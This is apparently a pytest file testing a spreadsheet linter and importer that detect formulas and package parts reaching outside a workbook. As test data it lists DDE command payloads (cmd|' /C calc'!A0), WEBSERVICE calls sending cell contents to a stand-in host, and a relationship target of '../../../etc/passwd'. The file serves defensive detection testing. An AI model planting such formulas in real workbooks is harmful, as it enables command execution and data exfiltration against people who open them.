"""What leads out of a workbook: one judgement, which lint tells and import refuses."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from exports.reading.outward import REACHING, Judge
from tests.places import ROOT
from tests.toys import stall
from tests.toys.packages import findings, written

OUTWARD = {
    "cmd|' /C calc'!A0": "asks another program",
    "CMD|'/C calc.exe'!'A0'": "asks another program",
    "1+SUM(Excel|'[a.xlsx]S'!R1C1)": "asks another program",
    "'cmd|/C calc'!A0": "asks another program",
    'WEBSERVICE("http://x/"&A1)': "reaches an address by WEBSERVICE",
    '_xlfn.WEBSERVICE ("http://x")': "reaches an address by WEBSERVICE",
    "_xlfn.IMAGE(A1)": "reaches an address by IMAGE",
    "com.microsoft.webservice(A1)": "reaches an address by WEBSERVICE",
    "_xlfn._xlws.PY(0,1)": "reaches a service by PY",
    'RTD("a",,"b")': "reaches another program by RTD",
    'CUBEVALUE("c","[a]")': "reaches a database by CUBEVALUE",
    "[1]Sheet1!A1+1": "reads another file",
    "SUM('C:\\a\\[b.xlsx]S'!A1:A3)": "reads another file",
    "'file:///a/b.ods'!A1": "reads another file",
    "[1]!rate": "reads another file",
    '\'a"b\'!A1+WEBSERVICE("http://x")': "reaches an address by WEBSERVICE",
    "'a\"b'!A1+'[1]x\"y'!A1": "reads another file",
    'SUM(T[a"b])+WEBSERVICE("http://x")': "reaches an address by WEBSERVICE",
    '1+"WEBSERVICE("http://x")': "reaches an address by WEBSERVICE",
    "_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)": "reaches an address by WEBSERVICE",
}
INWARD = (
    "A1+B2", "'Bob''s'!A1", "'a|b'!A1", "'S:T'!A1", "SUM(Table1[[#All],[a|b]])", "Table1[It's]*T['[kg']]", '"WEBSERVICE(x) or cmd|a!A1"&A1',
    'HYPERLINK("#S!A1","S")', '{"a|b","c"}', 'IF(A1>1,"[1]S!A1",0)', "WEBSERVICES*2", "myimage(A1)",
    "SUM(A1:A3,IMAGE)", "_xlfn.MAP(A1:A2,_xleta.ABS)", "Sales[Amount]-S!B1", '"it\'s "&A1&" WEBSERVICE(x) isn\'t"',
)  # fmt: skip


@pytest.mark.parametrize("formula", OUTWARD)
def test_formulas_that_reach_out_are_told_and_refused(formula: str, tmp_path: Path) -> None:
    escaped = formula.replace("&", "&amp;").encode()
    told = findings(written(b"A1+A1", escaped), tmp_path)["outside"]
    assert told == [f"Sheet!B1 {OUTWARD[formula]}: ={formula}"]
    row = f'<row r="900"><c r="B900"><f>{escaped.decode()}</f></c></row></sheetData>'.replace("\\", "\\\\")
    done = stall.Imported(stall.packed(inputs=("</sheetData>", row)), stall.TEXT)
    assert done.status == 1
    assert f"is linked to something outside of it: Inputs!B900 {OUTWARD[formula]}" in done.told


def test_formulas_with_other_digits_are_judged_alike_and_with_other_letters_anew() -> None:
    judge = Judge(["S"])
    for harmless in ("=P1Y(A1)", "=P2Y(A27)", "=S!A1", "=S!A9", "=RTD1(A1)"):
        assert judge.reach(harmless) == ""
    for told in ("=PY(A1)", "=RTD(A1)", "='[9]S'!A1", "=[1]S!A1", "=S!A1+PY(A9)"):
        assert judge.reach(told)


def test_formulas_that_stay_within_the_workbook_are_not_told() -> None:
    judge = Judge(["S", "T", "a|b", "Bob's"])
    assert [formula for formula in INWARD if judge.reach(f"={formula}")] == []


@pytest.mark.parametrize("piece", ["'", "a.", "['", "a'[", "\"'[", "[", "a "])
def test_a_formula_is_judged_in_the_time_that_it_takes_to_read_it(piece: str) -> None:
    formula = f"=1+{piece * (50_000 // len(piece))}'"
    began = time.process_time()
    Judge(["S"]).reach(formula)
    assert time.process_time() - began < 0.5  # of a second; what looks at it from every letter takes ten


RELATED = b'<Relationship Id="rIdX" Type="http://schemas.microsoft.com/office/%s" Target="x.xml"/></Relationships>'


@pytest.mark.parametrize(
    ("before", "after", "part"),
    [
        (b"<calcPr", b"<definedNames><definedName name=\"n\">cmd|'/C calc'!A0</definedName></definedNames><calcPr", "xl/workbook.xml"),
        (b"</sheetData>", b'</sheetData><dataValidations><dataValidation sqref="A1"><formula1>WEBSERVICE("x")</formula1></dataValidation></dataValidations>', "xl/worksheets/sheet1.xml"),
        (b"</sheetData>", b'</sheetData><conditionalFormatting sqref="A1"><cfRule><formula>[1]S!A1</formula></cfRule></conditionalFormatting>', "xl/worksheets/sheet1.xml"),
        (b"A1+A1</f>", b"A1</f></c><c r=\"C1\"><f t=\"shared\" si=\"0\" ref=\"C1:D1\">cmd|' '!A0</f></c><c r=\"D1\"><f t=\"shared\" si=\"0\"/>", "xl/worksheets/sheet1.xml"),
        (b'"/xl/worksheets/sheet2.xml"', b'"/xl/worksheets/sheet9.xml"', "xl/_rels/workbook.xml.rels"),
        (b'"/xl/worksheets/sheet2.xml"', b'"../../../etc/passwd"', "xl/_rels/workbook.xml.rels"),
        (b'"/xl/worksheets/sheet2.xml"', b'"http://x/s.xml" TargetMode="External"', "xl/_rels/workbook.xml.rels"),
        (b"</Relationships>", RELATED % b"relationships/connections", "xl/_rels/workbook.xml.rels"),
        (b"</Types>", b'<Override PartName="/xl/x.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"/></Types>', "[Content_Types].xml"),
        (b"</Relationships>", RELATED % b"2011/relationships/webextensiontaskpanes", "_rels/.rels"),
        (b' r:id="rId2"', b' r:id="rId77"', "xl/workbook.xml"),
    ],
)  # fmt: skip
def test_a_way_out_is_told_wherever_it_stands(before: bytes, after: bytes, part: str, tmp_path: Path) -> None:
    assert findings(written(b"", b""), tmp_path)["outside"] == []
    assert findings(written(before, after, part), tmp_path)["outside"] != []


def test_a_sheet_that_is_listed_and_not_there_is_refused_by_import() -> None:
    done = stall.Imported(stall.packed(links=("sheet3.xml", "sheet33.xml")), stall.TEXT)
    assert done.status == 1
    assert "is listed as a sheet, and its part 'xl/worksheets/sheet33.xml' is missing" in done.told


def test_the_docs_name_every_function_that_reaches_out() -> None:
    text = (ROOT / "docs" / "command-line.md").read_text()
    assert [name for name in REACHING if f"`{name}`" not in text] == []
